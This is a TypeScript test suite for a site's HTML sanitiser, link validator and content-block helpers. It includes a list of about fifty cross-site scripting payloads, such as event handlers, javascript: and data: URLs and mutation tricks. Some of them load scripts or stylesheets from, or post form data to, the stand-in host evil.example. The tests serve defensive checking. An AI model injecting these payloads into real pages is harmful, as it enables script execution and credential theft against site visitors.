import { describe, expect, it } from '@jest/globals';
import { type Block, readingMinutes, textOfBlocks, unsafeLink } from './blocks.js';
import { cleanHtml, cleanJson, plainText, safeHref } from './rich-text.js';

/** Ways to bring script into a page (OWASP's cheat sheet, mutation attacks, old and new browsers). */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="/ok" onclick="alert(1)">x</a>',
  '<a href="/ok" style="position:fixed;inset:0">x</a>',
  '<p onmouseover="alert(1)">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
];

const ALLOWED =
  /^<\/?(p|br|strong|b|em|i|u|s|sub|sup|code|a|ul|ol|li|blockquote|h[2-4]|hr)( (href|title|rel)="[^"<>]*")*( \/)?>$/;

describe('the sanitiser', () => {
  it.each(PAYLOADS)('takes the sting out of %j', (payload) => {
    for (const html of [payload, `<p>before ${payload} after</p>`, `<ul><li>${payload}</ul>`]) {
      const clean = cleanHtml(html);
      for (const tag of clean.match(/<[^>]*>/g) ?? [])
        expect([clean, tag]).toEqual([clean, expect.stringMatching(ALLOWED)]);
      for (const [, href] of clean.matchAll(/href="([^"]*)"/g)) expect(safeHref(href ?? '')).not.toBeNull();
      expect(cleanHtml(clean)).toBe(clean);
    }
  });

  it('keeps what writers need', () => {
    const html =
      '<h2>Before you fly</h2><p>Land <strong>before 15:30</strong>, <a href="/packages">see trips</a>, <a href="mailto:a@b.example">write</a>.</p><ul><li>one</li></ul>';
    expect(cleanHtml(html)).toBe(html);
    expect(cleanHtml('<a href="https://atoll.example/x">x</a>')).toBe(
      '<a href="https://atoll.example/x" rel="noopener nofollow">x</a>',
    );
  });

  it('lets links lead to the web, to mail and into the site only', () => {
    for (const href of [
      'https://a.example/b?c=d',
      'http://a.example',
      'mailto:a@b.example',
      '/ru/packages?x=1',
      '#top',
      '/',
    ])
      expect([href, safeHref(href)]).toEqual([href, href]);
    for (const href of [
      '',
      '//a',
      '/\\a',
      'https:a',
      'https:/a',
      'ftp://a',
      'mailto:',
      'a b',
      '\u0001/x',
      'x'.repeat(501),
      'data:,x',
    ])
      expect([href, safeHref(href)]).toEqual([href, null]);
  });

  it('reads the words of rich text', () => {
    expect(plainText('<p>Salt &amp; lime</p><p>Rice<br>Fish</p>')).toBe('Salt & lime Rice Fish');
  });

  it('cleans the rich members of an answer and leaves the others alone', () => {
    const answer = { title: 'a < b', html: '<p onclick="x">a</p>', list: [{ answer: '<script>x</script>b' }] };
    expect(JSON.parse(cleanJson(JSON.stringify(answer)))).toEqual({
      title: 'a < b',
      html: '<p>a</p>',
      list: [{ answer: 'b' }],
    });
  });
});

describe('blocks', () => {
  const text = (html: string): Block => ({ type: 'rich_text', html });

  it('know how long they take to read, in letters and in characters', () => {
    expect(readingMinutes([])).toBe(1);
    expect(readingMinutes([text(`<p>${'word '.repeat(620)}</p>`)])).toBe(3);
    expect(readingMinutes([text(`<p>${'岛'.repeat(1050)}</p>`)])).toBe(3);
  });

  it('know their words and their bad links', () => {
    const blocks: Block[] = [
      { type: 'heading', level: 2, text: 'Tides' },
      text('<p>High at <em>noon</em></p>'),
      { type: 'table', header: ['a'], rows: [['b']] },
      { type: 'cta', label: 'x', url: 'javascript:alert(1)' },
    ];
    expect(textOfBlocks(blocks)).toBe('Tides High at noon a b');
    expect(unsafeLink(blocks)).toBe(3);
    expect(unsafeLink(blocks.slice(0, 3))).toBe(-1);
  });
});
